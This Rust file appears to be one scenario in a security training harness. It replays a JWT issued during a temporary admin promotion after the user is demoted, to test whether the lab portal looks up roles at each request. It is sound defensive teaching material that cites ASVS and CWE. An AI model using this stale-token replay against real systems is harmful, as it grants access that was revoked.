//! Using rights from an old token. Worksheet 13.
//!
//! Start: the attacker was an administrator for a while, by a real promotion, and kept a token from
//! that time.
//!
//! Why it works: a role in a token is a copy of what the database said at one moment. The weak
//! `jwt-claims` asks the copy, and nothing tells the copy that it is wrong.
//!
//! Proof: after the demotion the API sends the list for administrators.
//!
//! Stopped by `jwt-claims` alone. Not stopped by `jwt-revocation`: nothing revokes a token at a
//! demotion. Not by `jwt-signature`: every claim was true when it was signed. Not by `jwt-expiry`,
//! for the minutes that remain. Not by `role-source`: that is where sessions get their role.
//!
//! Refused for this program: writing the role into the token. That is a forgery, and the signature
//! stops it (`edited_payload.rs`). Here nothing is forged.
//!
//! Source: ASVS 8.3.2 (changed rights apply at once), CWE-613, CWE-863. Read
//! `src/defences/jwt_claims.rs` next.

use super::super::http_actor::HttpActor;
use super::super::scenario::{ATTACKER, Scenario, ScenarioError};
use super::super::{Attack, Card, Engine, Outcome};
use super::bearer::{answer, sign_in, unexpected, with_token};
use crate::client::caller::Call;
use crate::defences::policy::Name;
use async_trait::async_trait;

pub(in crate::attacks) struct StaleRole;

const CARD: Card = Card {
    name: "stale-role",
    title: "An administrator after the demotion",
    engine: Engine::Http,
    victim: "The portal: an administrator gave somebody the same role and took it back.",
    means: "The attacker was an administrator for a while and got a token then. After the demotion \
            they send it once more.",
    evidence: "The list for administrators is sent to the attacker.",
    stopped_by: &[&[Name::JwtClaims]],
    when_stopped: "The role was looked up, and it is student.",
    shows: &["JWT-STALE", "JWT-SCOPE"],
    standards: &["ASVS 8.3.2", "CWE-613", "CWE-863"],
};

#[async_trait]
impl Attack for StaleRole {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("An administrator gives the attacker the same role.");
        let mut admin = scenario.actor("administrator");
        admin.sign_in("admin").await?;
        // The promotion is real and honest. Nothing is forged in this attack.
        make(&mut admin, "admin").await?;
        let mut attacker = scenario.actor("attacker");
        // The token is genuine, and everything in it was true when it was signed.
        let token = sign_in(&mut attacker, ATTACKER).await?.access;

        scenario.narrate("The administrator takes the role back.");
        // The administrator sees the new role at once, in the list and in the database. Nothing
        // tells them that a token still says otherwise.
        make(&mut admin, "student").await?;

        scenario.narrate("The attacker sends the token from that time.");
        // A claim is a copy of what the database said at one moment. On the weak arm of
        // `jwt-claims` the copy counts until the token expires. On the strong arm the role is
        // looked up at each request, and the token says only who it is. Short lifetimes are the
        // usual compromise: they bound how stale a right can be.
        let reply = attacker
            .call(with_token("GET", "/jwt/admin", &token))
            .await?;
        match reply.status {
            200 => Ok(Outcome::Succeeded(format!(
                "The list for administrators was answered to {ATTACKER}: {}",
                reply.body
            ))),
            // 403 and not 401: the token is accepted, the role is not enough.
            403 => Ok(Outcome::Stopped(CARD.when_stopped.into())),
            _ => Err(unexpected("the list", &reply)),
        }
    }
}

/// Gives the attacker's account a role, as the administrator's page would. The request carries the
/// CSRF token as a header where the policy wants one: it is an honest request and must pass on
/// every variant.
async fn make(admin: &mut HttpActor<'_>, role: &str) -> Result<(), ScenarioError> {
    let reply = admin.get("/csrf-token").await?;
    let token = answer("the CSRF token", &reply)?["csrf_token"].clone();
    let path = format!("/admin/users/{ATTACKER}/role");
    let mut call = Call::json(path, format!("{{\"role\":\"{role}\"}}"));
    if let Some(token) = token.as_str() {
        call = call.with("x-csrftoken", token);
    }
    let changed = admin.call(call).await?;
    answer("the new role", &changed).map(|_| ())
}
